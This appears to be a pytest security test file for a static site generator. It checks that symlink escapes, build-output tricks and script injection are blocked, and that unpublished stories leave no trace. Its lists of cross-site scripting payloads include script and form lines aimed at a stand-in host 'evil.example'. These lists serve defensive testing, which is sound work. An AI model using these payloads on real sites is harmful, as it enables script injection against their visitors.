"""What hostile or careless content must not do: leave its folder, run a script, leak a story, or
leave half a site behind.
"""

import contextlib
import datetime as dt
import html
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import NOW, PIXEL, Site, story
from hypothesis import given, settings
from hypothesis import strategies as st

import ssg.build.run
from ssg.layouts.script import script_json
from ssg.markup.convert import Converter
from ssg.markup.marks import Filler, fill
from ssg.markup.sanitize import unsafe_scheme
from ssg.output.destination import OutputError
from ssg.source.files import SourceFile

MakeSite = Callable[..., Site]
REPOSITORY = Path(__file__).resolve().parent.parent
STORY = "content/world/a.md"


def page_of(made: Site, name: str = "a") -> str:
    return made.read(f"world/2026/11/{name}/")


def codes(made: Site) -> set[str]:
    return {problem.code for problem in made.build(destination=None).problems}


# ---- links out of the tree


@pytest.fixture
def linked(site: MakeSite, tmp_path: Path) -> Site:
    """A site beside a folder with secrets."""
    (tmp_path / "secrets").mkdir()
    for name in ("secret.md", "secret.png", "secret.html", "secret.yaml", "secret.txt"):
        (tmp_path / "secrets" / name).write_bytes(
            PIXEL if name.endswith("png") else b"title: SECRET"
        )
    return site(f"-- {STORY} --\n{story()}")


@pytest.mark.parametrize(
    ("path", "target"),
    [
        ("content/world/b.md", "secret.md"),
        ("content/world/b", ""),
        ("content/media", ""),
        ("content/world/b.png", "secret.png"),
        ("static/b.txt", "secret.txt"),
        ("static/b", ""),
        ("static", ""),
        ("layouts/story.html", "secret.html"),
        ("layouts/assets/b.txt", "secret.txt"),
        ("layouts/blocks", ""),
        ("layouts", ""),
        ("data/b.yaml", "secret.yaml"),
        ("data/b", ""),
        ("data", ""),
    ],
)
@pytest.mark.parametrize("relative", [True, False])
def test_a_link_out_of_the_site_is_an_error_and_nothing_behind_it_is_published(
    linked: Site, path: str, target: str, relative: bool
) -> None:
    link, aim = linked.root / path, linked.root.parent / "secrets" / target
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(os.path.relpath(aim, link.parent) if relative else aim)
    report = linked.build()
    assert [(problem.code, problem.path) for problem in report.problems] == [("symlink", path)]
    assert not linked.out.exists()


def test_a_link_to_a_link_out_of_the_site_is_found_too(linked: Site) -> None:
    (linked.root / "static").mkdir()
    (linked.root / "inner").symlink_to("../secrets")
    (linked.root / "static/files").symlink_to("../inner")
    assert codes(linked) == {"symlink"}


@pytest.mark.parametrize("target", [".git/config", ".ssg", "content", "content/world", STORY])
def test_a_link_from_static_to_hidden_files_or_to_stories_is_an_error(
    linked: Site, target: str
) -> None:
    (linked.root / ".git").mkdir()
    (linked.root / ".git/config").write_text("token")
    linked.build()
    (linked.root / "static").mkdir()
    (linked.root / "static/b").symlink_to(linked.root / target)
    assert codes(linked) == {"symlink"}


def test_a_link_inside_the_site_is_followed(linked: Site) -> None:
    linked.write("-- photos/pier.png --\n")
    (linked.root / "content/media").symlink_to("../photos")
    linked.write(
        f"-- {STORY} --\n" + story(media="\n  - {src: pier.png, alt: A pier, credit: Ana Ruiz}")
    )
    assert linked.build().errors == 0, linked.problems()
    assert linked.has("media/pier.png")


@pytest.mark.parametrize(
    "links",
    [{"a": "."}, {"a": "../world"}, {"a": "a"}, {"a": "b", "b": "a"}, {"a/b": "..", "c/d": "../a"}],
)
def test_links_in_a_circle_end(linked: Site, links: dict[str, str]) -> None:
    for path, target in links.items():
        link = linked.root / "content/world" / path
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(target)
    assert codes(linked) <= {"symlink", "url-collision"}
    assert "symlink" in codes(linked)


def test_a_few_links_cannot_stand_for_millions_of_files(linked: Site) -> None:
    for n in range(30):
        folder = linked.root / f"static/{n}"
        folder.mkdir(parents=True)
        (folder / "x").symlink_to(f"../{n + 1}")
        (folder / "y").symlink_to(f"../{n + 1}")
    (linked.root / "static/30").mkdir()
    assert codes(linked) == {"symlink"}


# ---- where the build writes


def test_a_link_in_the_output_cannot_make_the_build_write_elsewhere(linked: Site) -> None:
    (linked.root / "build").mkdir()
    (linked.root / "build/world").symlink_to("../../secrets")
    with pytest.raises(OutputError, match="symbolic link"):
        linked.build()
    assert {path.name for path in (linked.root.parent / "secrets").iterdir()} == {
        f"secret.{suffix}" for suffix in ("md", "png", "html", "yaml", "txt")
    }


def ssg_command(*arguments: object, **environment: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "ssg", *map(str, arguments)],
        cwd=REPOSITORY,
        env=os.environ | {"NO_COLOR": "1"} | environment,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def test_a_build_folder_that_is_a_link_out_of_the_site_must_be_named(linked: Site) -> None:
    (linked.root / "build").symlink_to("../secrets")
    done = ssg_command("build", "-s", linked.root)
    assert (done.returncode, "symbolic link" in done.stderr, "Traceback" in done.stderr) == (
        2,
        True,
        False,
    )
    assert not (linked.root.parent / "secrets/index.html").exists()


@pytest.mark.parametrize("link", [".ssg", ".ssg/lock"])
def test_a_state_folder_that_is_a_link_is_not_written_to(linked: Site, link: str) -> None:
    (linked.root / link).parent.mkdir(exist_ok=True)
    secret = linked.root.parent / "secrets" / ("" if link == ".ssg" else "secret.txt")
    (linked.root / link).symlink_to(secret)
    with pytest.raises((OutputError, OSError)):
        linked.build()
    assert (linked.root.parent / "secrets/secret.txt").read_bytes() == b"title: SECRET"
    assert len(list((linked.root.parent / "secrets").iterdir())) == 5


def test_a_list_of_files_that_came_with_the_site_cannot_make_the_build_delete_others(
    linked: Site,
) -> None:
    linked.build()
    (made_list,) = (
        path for path in (linked.root / ".ssg").iterdir() if b"sitemap.xml\n" in path.read_bytes()
    )
    secret = linked.root.parent / "secrets/secret.txt"
    made_list.write_text(
        f"../../secrets/secret.txt\n{secret}\nworld/../../../secrets/secret.txt\nindex.html\n"
    )
    shutil.copy(made_list, made_list.with_suffix(".kept"))
    (linked.root / STORY).unlink()
    assert linked.build().errors == 0
    assert secret.read_bytes() == b"title: SECRET"


# ---- scripts

DISGUISES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&amp;#106;avascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:text/html,x",
    "blob:https://x/1",
    "file:///etc/passwd",
    "view-source:javascript:1",
]
PLACES = {
    "link": "[x]({})",
    "link in brackets": "[x](<{}>)",
    "reference": "[x][r]\n\n[r]: {}",
    "reference in brackets": "[x][r]\n\n[r]: <{}>",
    "picture": "![x]({})",
    "raw link": 'a <a href="{}">x</a>',
    "raw link in single quotes": "a <a href='{}'>x</a>",
    "raw link behind a title": 'a <a title=">" href="{}">x</a>',
    "raw block": '<div>\n<a/href="{}">x</a>\n</div>',
    "raw picture": '<img src="{}" alt="">',
    "form": '<form action="{}"></form>',
    "attribute list": 'a [x](http://x.example/){{: href="{}" }}',
    "SVG": '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    "object": '<object data="{}"></object>',
    "button": '<button formaction="{}">x</button>',
    "raw link, no space": '<div>\n<a title="x"href="{}">x</a>\n</div>',
    "raw link, capitals": '<div>\n<A HREF="{}">x</A>\n</div>',
}
_TAG = re.compile(r"""<[a-zA-Z](?:[^>"']|"[^"]*"|'[^']*')*>""")
_VALUE = re.compile(
    r"""[\s/"'](href|src|action|formaction|data|xlink:href|poster)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)""",
    re.I,
)


def unsafe_addresses(page: str) -> list[str]:
    """Addresses of a page that would run something."""
    values = (
        match[2].strip("\"'") for tag in _TAG.finditer(page) for match in _VALUE.finditer(tag[0])
    )
    return [
        value for value in values if unsafe_scheme(value) and value != "data:,"
    ]  # the icon of a site that has none


def test_the_search_for_unsafe_addresses_finds_one() -> None:
    assert unsafe_addresses("<a title='x'href=\" java&#9;script:1\">")
    assert not unsafe_addresses("<p>javascript:1</p>")


@pytest.mark.parametrize("trusted", [True, False])
@pytest.mark.parametrize("place", PLACES)
def test_no_disguise_of_a_script_gets_into_a_link(place: str, trusted: bool) -> None:
    converter = Converter(())
    for disguise in DISGUISES:
        source = SourceFile(STORY, PLACES[place].format(disguise))
        converted = converter.convert(source, 0, lang="en", trusted=trusted)
        assert unsafe_addresses(converted.body.html) == [], disguise
        addresses = [link.target for link in converted.body.links] + [
            picture.src for picture in converted.body.pictures
        ]
        assert [address for address in addresses if unsafe_scheme(address)] == []


@pytest.mark.parametrize("place", ["link", "reference", "raw link", "picture"])
def test_a_link_that_would_run_a_script_is_an_error_at_its_line(site: MakeSite, place: str) -> None:
    made = site(f"-- {STORY} --\n" + story(body=PLACES[place].format("javascript:alert(1)")))
    errors = [problem for problem in made.build().problems if problem.code == "unsafe-link"]
    assert [problem.span is not None and problem.span.line >= 6 for problem in errors] == [True]


@pytest.mark.parametrize(
    "fields",
    [
        {"byline": "\n  - {name: Ana, url: 'URL'}"},
        {"source": "{name: AP, url: 'URL'}"},
        {"related": "[{title: x, url: 'URL'}]"},
        {"contributors": "[{name: Ana, url: 'URL'}]"},
    ],
    ids=["byline", "source", "related", "contributors"],
)
def test_no_address_in_the_front_matter_may_run_a_script(
    site: MakeSite, fields: dict[str, str]
) -> None:
    for disguise in (
        "javascript:alert(1)",
        "JAVASCRIPT://x.example/%0aalert(1)",
        "data:text/html,x",
        "vbscript:x",
        "//x.example/",
        "java&#115;cript:1",
        "ftp://x.example/",
    ):
        made = site(
            f"-- {STORY} --\n"
            + story(**{key: value.replace("URL", disguise) for key, value in fields.items()})
        )
        assert "wrong-url" in codes(made), disguise


@pytest.mark.parametrize(
    "block",
    [
        "/// related\n    stories: [{title: x, url: 'URL'}]\n///",
        "/// related\n    stories: {title: x, url: 'URL'}\n///",
    ],
)
def test_no_address_in_the_options_of_a_block_may_run_a_script(site: MakeSite, block: str) -> None:
    for disguise in ("javascript:alert(1)", " JaVaScript:alert(1)", "data:text/html,x"):
        made = site(f"-- {STORY} --\n" + story(body=block.replace("URL", disguise)))
        assert codes(made) == {"unsafe-link"}


def test_an_embed_whose_address_is_no_web_address_has_no_link(site: MakeSite) -> None:
    made = site(f"-- {STORY} --\n" + story(body="/// embed | javascript:alert(1)\nx\n///"))
    made.build()
    assert (
        unsafe_addresses(
            "".join(text.decode() for path, text in made.files().items() if path.endswith("html"))
        )
        == []
    )


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object>",
    "<embed src=x>",
    "<form action=//evil.example><input name=a></form>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mi xlink:href='javascript:1'>x</mi></math>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=x onclick=alert(1)>x</a>",
    "<p style='background:url(//evil.example)'>x</p>",
    '[x](http://x.example/){: onclick="alert(1)" style="color:red" }',
    '## Heading {: onmouseover="alert(1)" }',
    '*a*{: onclick="alert(1)" }',
    'a paragraph\n{: onclick="alert(1)" }',
    "<template><script>1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "<xmp><script>1</script></xmp>",
]
_SCRIPTED = re.compile(
    r"<(script|style|iframe|object|embed|form|link|base|meta|svg|math|template|xmp|input)\b|<[^>]*\s(on\w+|style|srcdoc)\s*=",
    re.I,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_survives_in_a_story_of_a_source_that_is_not_trusted(attack: str) -> None:
    for body in (
        attack,
        f"Words. {attack} More words.",
        f"<div>\n{attack}\n</div>",
        f"/// fact-box\n{attack}\n///",
        f"- {attack}",
        f"> {attack}",
    ):
        converted = Converter(("fact-box",)).convert(
            SourceFile(STORY, body), 0, lang="en", trusted=False
        )
        assert not _SCRIPTED.search(re.sub("<!--.*?-->", "", converted.body.html)), (
            converted.body.html
        )


def test_a_source_is_trusted_only_if_site_yaml_says_so(site: MakeSite) -> None:
    made = site()
    config = (
        made.root / "site.yaml"
    ).read_text() + "sources:\n  ours: {trusted: true}\n  theirs: {}\n"
    (made.root / "site.yaml").write_text(config)
    for name, source in {
        "own": {},
        "ours": {"source": "ours"},
        "theirs": {"source": "theirs"},
        "unknown": {"source": "who"},
    }.items():
        made.write(
            f"-- content/world/{name}.md --\n"
            + story(body="<b onclick=alert(1)>bold</b> words", **source)
        )
    made.build()
    assert {
        name: "onclick" in page_of(made, name) for name in ("own", "ours", "theirs", "unknown")
    } == {
        "own": True,
        "ours": True,
        "theirs": False,
        "unknown": False,
    }


PIECES = [
    "para ",
    "\n\n/// fact-box\n",
    "\n///\n\n",
    "<script>",
    "</script>",
    "<style>",
    "</style>",
    "<table>",
    "<tr><td>",
    "</table>",
    "<svg>",
    "<math>",
    "<template>",
    "</template>",
    "<html>",
    "<head>",
    "<select>",
    "<option>",
    "</select>",
    "<div>",
    "\n<div>\n",
    "</div>",
    "<!--",
    "-->",
    "<textarea>",
    "</textarea>",
    "<title>",
    "</title>",
    "<a href='x.md'>",
    "</a>",
    '<b title="',
    '">',
    "`",
    "<mtext>",
    "</svg>",
    "<form>",
    "<col>",
    "<![CDATA[",
    "]]>",
    "<?x",
    "<iframe>",
    "\n\n",
    "[x](y.md)",
    "![a](b.png)",
]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(PIECES), min_size=2, max_size=14).map("".join), st.booleans())
def test_html_that_is_not_closed_is_reported_or_swallows_no_block(text: str, trusted: bool) -> None:
    converted = Converter(("fact-box",)).convert(
        SourceFile(STORY, text), 0, lang="en", trusted=trusted
    )
    if any(problem.severity == "error" for problem in converted.problems):
        return
    shown: list[int] = []
    filler = Filler(
        link=str,
        picture=str,
        figure=str,
        block=lambda number, inside: shown.append(number) or inside,
    )
    fill(converted.body.html, filler)
    assert sorted(shown) == list(range(len(converted.body.blocks)))


@pytest.mark.parametrize("name", ["script", "style", "textarea", "title", "iframe", "template"])
def test_an_element_that_would_swallow_the_rest_of_the_page_is_an_error_at_its_line(
    site: MakeSite, name: str
) -> None:
    made = site(f"-- {STORY} --\n" + story(body=f"The word <{name}> is left open.\n\nThe rest."))
    (problem,) = made.build(destination=None).problems
    assert (problem.code, problem.severity, problem.span and problem.span.line) == (
        "unclosed-block",
        "error",
        6,
    )


def test_other_html_that_is_not_closed_is_a_warning(site: MakeSite) -> None:
    made = site(f"-- {STORY} --\n" + story(body="<div>\nleft open\n\n</section>\n"))
    assert [
        (problem.code, str(problem.severity), problem.span.line)
        for problem in made.build(destination=None).problems
    ] == [
        ("unclosed-block", "warning", 6),
        ("unclosed-block", "warning", 9),
    ]


# ---- markup in the fields

EVIL = "</script><script>alert(1)</script><!--]]>\"'><img src=x onerror=alert(1)>&lt;b&gt;"
EVERY_FIELD = """
deck: EVIL deck
kicker: EVIL kicker
summary: EVIL summary
byline:
  - {name: EVIL Ruiz, role: EVIL role, org: EVIL org, location: EVIL place}
contributors: [{name: EVIL helper, role: EVIL role}]
tagline: EVIL tagline
ednote: EVIL ednote
dateline: {place: EVIL PLACE, date: EVIL date, agency: EVIL}
tags: [EVIL tag]
series: EVIL series
source: {name: EVIL source, id: EVIL id, licence: EVIL licence, url: "https://x.example/?a=1&b=%3Cscript%3E"}
version: EVIL version
media:
  - src: p.png
    alt: EVIL alt
    caption: EVIL caption
    credit: EVIL credit
    taken: EVIL taken
    rights: {licence: EVIL licence}
related: [{title: EVIL related, url: "https://x.example/'onmouseover='x"}]
corrections: [{date: 2026-11-20, text: EVIL correction}]
extra: {note: EVIL extra}
"""


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """A site with markup in every field, and in site.yaml."""

    def dressed(text: str) -> str:
        return re.sub(
            r"EVIL ?([\w ]*)",
            lambda match: "'" + f"{EVIL} {match[1]}".replace("'", "''") + "'",
            text,
        )

    root = tmp_path_factory.mktemp("evil")
    made = Site(root)
    named = dressed(
        "title: EVIL site\ndescription: EVIL about\ncopyright: EVIL line\ncontact: EVIL"
        " desk\npublisher: {name: EVIL house}\nsections: {world: {title: EVIL World, description:"
        " EVIL about}}\nsocial: {x: EVIL}\n"
    )
    (root / "site.yaml").write_text(
        "base_url: https://ledger.example/\nshare: [facebook, x, email, pinterest, reddit,"
        f" mastodon]\n{named}"
    )
    made.write(
        f"-- content/world/p.png --\n-- {STORY} --\n---\n{dressed('title: EVIL headline')}\ndate:"
        f" 2026-11-20{dressed(EVERY_FIELD)}---\n\nWords with ]]> in them.\n"
    )
    made.write(
        "-- content/world/b.md --\n"
        + story("A second story", body="/// related\n    stories: [a.md]\n///")
    )
    assert made.build().errors == 0, made.problems()
    return made


def test_markup_in_a_field_is_text_on_every_page(evil: Site) -> None:
    pages = {
        path: content.decode() for path, content in evil.files().items() if path.endswith(".html")
    }
    assert sum("headline" in page for page in pages.values()) >= 5
    for path, page in pages.items():
        for attack in ("<script>alert", "<img src=x", "</script><script", "'onmouseover='"):
            assert attack not in page, (path, attack)
        scripts = re.findall(r"<script\b[^>]*>(.*?)</script>", page, re.S)
        assert all("<" not in script and json.loads(script) for script in scripts), path
        tags = "".join(re.findall(r"<[a-z][^<>]*>", re.sub(r'"[^"]*"', '""', page)))
        assert "<!--" not in page, path
        assert not re.search(r"\son\w+\s*=", tags), path


def test_markup_in_a_field_reaches_json_ld_word_for_word(evil: Site) -> None:
    blocks = [
        json.loads(text)
        for text in re.findall(
            r'<script type="application/ld\+json">(.*?)</script>', page_of(evil), re.S
        )
    ]
    (article,) = (block for block in blocks if block["@type"] == "NewsArticle")
    assert article["headline"].startswith("</script><script>alert(1)</script>")
    assert article["image"][0]["caption"] == f"{EVIL} caption"


def test_markup_in_a_field_is_text_in_every_feed_and_sitemap(evil: Site) -> None:
    from xml.etree import ElementTree

    feeds = {path: content for path, content in evil.files().items() if path.endswith(".xml")}
    assert {"feed.xml", "sitemap.xml"} <= set(feeds)
    for path, content in feeds.items():
        tree = ElementTree.fromstring(content)
        assert not any(element.tag.endswith(("script", "img", "}b")) for element in tree.iter()), (
            path
        )
    titles = [element.text for element in ElementTree.fromstring(feeds["feed.xml"]).iter("title")]
    assert f"{EVIL} headline" in titles
    assert (
        "Words with ]]&gt; in them." in feeds["feed.xml"].decode().replace("]]]]><![CDATA[>", "]]>")
        or b"]]]]><![CDATA[>" in feeds["feed.xml"]
    )


def test_share_links_and_addresses_cannot_be_left(evil: Site) -> None:
    page = page_of(evil)
    for href in re.findall(r'href="([^"]*)"', page):
        assert (
            "<" not in href and "'" not in html.unescape(href).replace("%27", "")
        ) or href.startswith("https://x.example/")
    assert unsafe_addresses(page) == []


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=40) | st.sampled_from(["</script>", "<!--", "]]>", "\u2028", "</ScRiPt >"]))
def test_no_text_breaks_out_of_a_script_element(text: str) -> None:
    shown = script_json({"a": text})
    assert "<" not in shown
    assert json.loads(shown) == {"a": text}


def test_the_editors_note_is_published_nowhere(site: MakeSite) -> None:
    made = site(f"-- {STORY} --\n" + story(ednote="call Xanthippe before noon"))
    made.build()
    assert not any(b"Xanthippe" in content for content in made.files().values())


# ---- stories before and after their time

STATES = {
    "embargoed": "embargo: 2027-01-01T06:00:00-05:00\ndate: 2026-11-20",
    "draft": "draft: true\ndate: 2026-11-20",
    "scheduled": "date: 2027-01-01T06:00:00-05:00",
    "killed": "status: killed\ndate: 2026-11-20",
    "withheld": "status: withheld\ndate: 2026-11-20",
    "expired": "expires: 2026-11-21\ndate: 2026-11-20",
}
CANARY = """\
-- content/zqSEC{0}/{1}zqfile{0}.png --
-- content/zqsec{0}/{1}zqfile{0}.md --
---
title: Zqtitle{0}
deck: Zqdeck{0}
kicker: Zqkicker{0}
summary: Zqsummary{0}
slug: {0}zqslug
byline: [{{name: Zqauthor{0}, email: zqmail{0}@ledger.example}}]
contributors: Zqhelper{0}
tagline: Zqtagline{0}
dateline: ZQPLACE{0}
tags: [Zqtag{0}, shared]
series: Zqseries{0}
aliases: [/zqalias{0}/]
source: {{name: Zqsource{0}, url: "https://source.example/{0}zqurl", id: zqid{0}}}
media:
  - {{src: zqpicture{0}.png, alt: Zqalt{0}, caption: Zqcaption{0}, credit: Zqcredit{0}}}
  - {{src: zqother{0}.png, alt: Zqalt{0} too, caption: Zqcaption{0}, credit: Zqcredit{0}}}
related: [{{title: Zqrelated{0}, url: "https://x.example/zqlink{0}"}}]
extra: {{note: Zqextra{0}}}
{2}
---

Zqbody{0} words. ![Zqinline{0}](zqother{0}.png)

/// pull-quote | Zqargument{0}
Zqquote{0}
///
"""


def canaries(state: str) -> str:
    """The files of a story in a state, each word of which is found nowhere else."""
    text = CANARY.format(state, "", STATES[state]).split("\n", 1)[1]
    folder = f"content/zqsec{state}"
    return f"-- {folder}/zqpicture{state}.png --\n-- {folder}/zqother{state}.png --\n{text}"


def newsroom() -> str:
    others = "".join(canaries(state) for state in STATES)
    links = ", ".join(f"zqsec{state}/zqfile{state}.md" for state in STATES)
    body = "\n\n".join(
        f"[words {n}](../zqsec{state}/zqfile{state}.md)" for n, state in enumerate(STATES)
    )
    block = f"\n\n/// related\n    stories: [{links}]\n///"
    return (
        others
        + f"-- {STORY} --\n"
        + story("A live story", tags="[shared]", related=f"[{links}]", body=body + block)
    )


@pytest.fixture(scope="module")
def leaky(tmp_path_factory: pytest.TempPathFactory) -> Site:
    made = Site(tmp_path_factory.mktemp("leaky")).write(newsroom())
    made.build()
    assert made.problems() == [line for line in made.problems() if " error[" not in line]
    return made


def traces(made: Site, state: str) -> set[str]:
    """Every word of a story, in a name or in the bytes of the output."""
    word = re.compile(rf"zq[a-z]*{state}[a-z]*|{state}zq[a-z]*", re.I)
    found: set[str] = set()
    for path, content in made.files().items():
        found |= set(word.findall(path)) | set(
            word.findall(html.unescape(content.decode("utf-8", "replace")))
        )
    return {text.lower() for text in found}


@pytest.mark.parametrize("state", ["embargoed", "draft", "scheduled"])
def test_a_story_before_its_time_leaves_no_trace_at_all(leaky: Site, state: str) -> None:
    assert traces(leaky, state) == set()


@pytest.mark.parametrize("state", ["killed", "withheld", "expired"])
def test_of_a_recalled_story_only_its_address_remains(leaky: Site, state: str) -> None:
    address = {
        f"{state}zqslug",
        f"zqsec{state}",
        f"zqalias{state}",
    }  # whoever comes by a former address is told too
    source = {f"{state}zqurl", f"zqsource{state}"} if state == "expired" else set()
    assert traces(leaky, state) <= address | source
    holders = {
        path
        for path, content in leaky.files().items()
        if f"{state}zqslug" in path or f"{state}zqslug" in content.decode("utf-8", "replace")
    }
    assert {path.split("/")[0] for path in holders if not path.endswith((".xml", ".json"))} == {
        f"zqsec{state}",
        f"zqalias{state}",
    }
    assert "robots" in leaky.read(f"zqsec{state}/2026/11/{state}zqslug/")


def test_the_words_that_led_to_an_unpublished_story_stand_without_a_link(leaky: Site) -> None:
    for n, state in enumerate(STATES):
        assert re.search(rf">\s*words {n}\s*<", page_of(leaky)), state
    assert "href" not in "".join(re.findall(r"<p>.*?words \d.*?</p>", page_of(leaky)))


def test_the_search_for_traces_finds_them_when_the_story_is_live(leaky: Site) -> None:
    for state, built in (
        ("embargoed", {"future": True}),
        ("draft", {"drafts": True}),
        ("expired", {"expired": True}),
    ):
        other = leaky.root / f"open-{state}"
        leaky.build(destination=other, **built)
        seen = Site(leaky.root)
        seen.out = other
        assert {
            f"zqtitle{state}",
            f"zqpicture{state}",
            f"zqauthor{state}",
            f"zqtag{state}",
            f"zqbody{state}",
            f"zqcaption{state}",
        } <= traces(seen, state)
        assert not traces(seen, "killed") - {"killedzqslug", "zqseckilled", "zqaliaskilled"}


def test_when_a_story_is_killed_all_that_was_published_of_it_goes(site: MakeSite) -> None:
    text = canaries("killed").replace("status: killed", "status: usable")
    made = site(text + f"-- {STORY} --\n" + story("A live story", tags="[shared]"))
    made.build()
    assert made.has("zqseckilled/2026/11/killedzqslug/")
    assert made.has("media/zqseckilled/zqpicturekilled.png")
    assert made.has("zqaliaskilled/")
    made.write(canaries("killed"))
    report = made.build()
    assert report.published.removed >= 7
    assert traces(made, "killed") <= {"killedzqslug", "zqseckilled", "zqaliaskilled"}
    assert "withdrawn" in made.read("zqseckilled/2026/11/killedzqslug/")
    assert not made.has("media/zqseckilled/zqpicturekilled.png")


@pytest.mark.parametrize("word", ["embargoed", "Embargoed", "EMBARGOED"])
def test_a_story_that_is_embargoed_without_a_time_is_an_error_and_never_published(
    site: MakeSite, word: str
) -> None:
    assert "missing-field" in codes(site(f"-- {STORY} --\n" + story(status=word)))


def test_an_embargo_ends_at_its_second_and_not_before(site: MakeSite) -> None:
    made = site(f"-- {STORY} --\n" + story(embargo="2026-11-22T07:00:00-05:00"))
    made.build(now=NOW - dt.timedelta(microseconds=1))
    assert not made.has("world/2026/11/a/")
    made.build(now=NOW)
    assert made.has("world/2026/11/a/")


# ---- interrupted builds


@pytest.fixture(scope="module")
def large(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site that takes a while."""
    made = Site(tmp_path_factory.mktemp("large"))
    body = "\n\n".join(f"The *council* put it off, paragraph {n}." for n in range(10))
    made.write("-- content/world/first.md --\n" + story())
    # A layout that is slow on purpose, so that there is time to break off the build on a fast
    # machine too.
    slow = (
        "<!doctype html><title>{{ page.title }}</title>{% for n in range(150000) %}{% endfor %}{{"
        " story.body }}"
    )
    made.write(f"-- layouts/story.html --\n{slow}\n")
    for n in range(420):
        (made.root / f"content/world/s{n}.md").write_text(story(f"Vote {n}", body=body))
    return made.root


def start(root: Path, *arguments: str) -> subprocess.Popen[str]:
    environment = os.environ | {"NO_COLOR": "1", "SOURCE_DATE_EPOCH": "1795348800"}
    command = [sys.executable, "-m", "ssg", "build", "-s", str(root), "--jobs", "2", *arguments]
    return subprocess.Popen(
        command,
        cwd=REPOSITORY,
        env=environment,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
        # Tests that were started in the background of a shell ignore interrupts, and so would what
        # they start.
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )


def processes_of(group: int) -> list[int]:
    """The processes of a session that are still there (not those that only wait to be noticed)."""
    found = []
    for entry in Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError):
            fields = entry.read_text().rpartition(")")[2].split()
            if int(fields[3]) == group and fields[0] != "Z":
                found.append(int(entry.parent.name))
    return found


def wait_until(happened: Callable[[], bool], seconds: float = 40) -> bool:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if happened():
            return True
        time.sleep(0.02)
    return False


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc").is_dir(), reason="processes are looked up in /proc")
@pytest.mark.parametrize("how", [signal.SIGINT, signal.SIGKILL])
def test_a_build_that_is_broken_off_leaves_the_old_site_and_no_process_and_the_next_one_is_whole(
    large: Path, tmp_path: Path, how: signal.Signals
) -> None:
    made = Site(tmp_path / "site")
    shutil.copytree(large, made.root, ignore=shutil.ignore_patterns("build", ".ssg"))
    shutil.move(made.root / "content", made.root / "aside")
    made.build()  # the old site
    shutil.move(made.root / "aside", made.root / "content")
    before = made.files()
    assert before
    process = start(made.root)
    assert wait_until(
        lambda: (
            (made.root / ".ssg/stage/new").is_dir()
            and any((made.root / ".ssg/stage/new").iterdir())
        )
    )
    process.send_signal(how)
    _, errors = process.communicate(timeout=60)
    assert process.returncode == (130 if how is signal.SIGINT else -signal.SIGKILL), errors
    assert "Traceback" not in errors
    assert made.files() == before
    assert wait_until(lambda: not processes_of(process.pid)), "a worker is still there"
    if how is signal.SIGINT:
        assert "nothing was published" in errors
        assert not (made.root / ".ssg/stage").exists()
    done = ssg_command("build", "-s", made.root, "-q", SOURCE_DATE_EPOCH="1795348800")
    assert done.returncode == 0, done.stderr
    assert not (made.root / ".ssg/stage").exists()
    assert made.files() == clean_build(large)


_CLEAN: dict[Path, dict[str, bytes]] = {}


def clean_build(root: Path) -> dict[str, bytes]:
    if root not in _CLEAN:
        made = Site(root)
        report = made.build(now=dt.datetime.fromtimestamp(1795348800, dt.UTC), jobs=2)
        assert report.errors == 0, made.problems()
        _CLEAN[root] = made.files()
    return _CLEAN[root]


def test_two_builds_at_once_are_one_after_the_other(linked: Site) -> None:
    builds = [start(linked.root) for _ in range(3)]
    outcomes = [(*build.communicate(timeout=100), build.returncode) for build in builds]
    assert [code for *_, code in outcomes] == [0, 0, 0], outcomes
    built = linked.files()
    shutil.rmtree(linked.root / ".ssg")
    linked.build(now=dt.datetime.fromtimestamp(1795348800, dt.UTC))
    assert linked.files() == built


def test_a_worker_that_is_killed_stops_the_build_with_a_sentence(linked: Site) -> None:
    script = (
        "import os, signal, ssg.build.run, ssg.cli, ssg.build.tasks\n"
        "ssg.build.run._PARALLEL_FROM = 1\n"
        "def render_page(*_): os.kill(os.getpid(), signal.SIGKILL)\n"
        "ssg.build.tasks.render_page = render_page\n"
    )
    done = subprocess.run(
        [
            sys.executable,
            "-c",
            script + "ssg.cli.main()",
            "build",
            "-s",
            str(linked.root),
            "--jobs",
            "2",
        ],
        cwd=REPOSITORY,
        capture_output=True,
        text=True,
        timeout=100,
        check=False,
    )
    assert (
        done.returncode,
        "Traceback" in done.stderr,
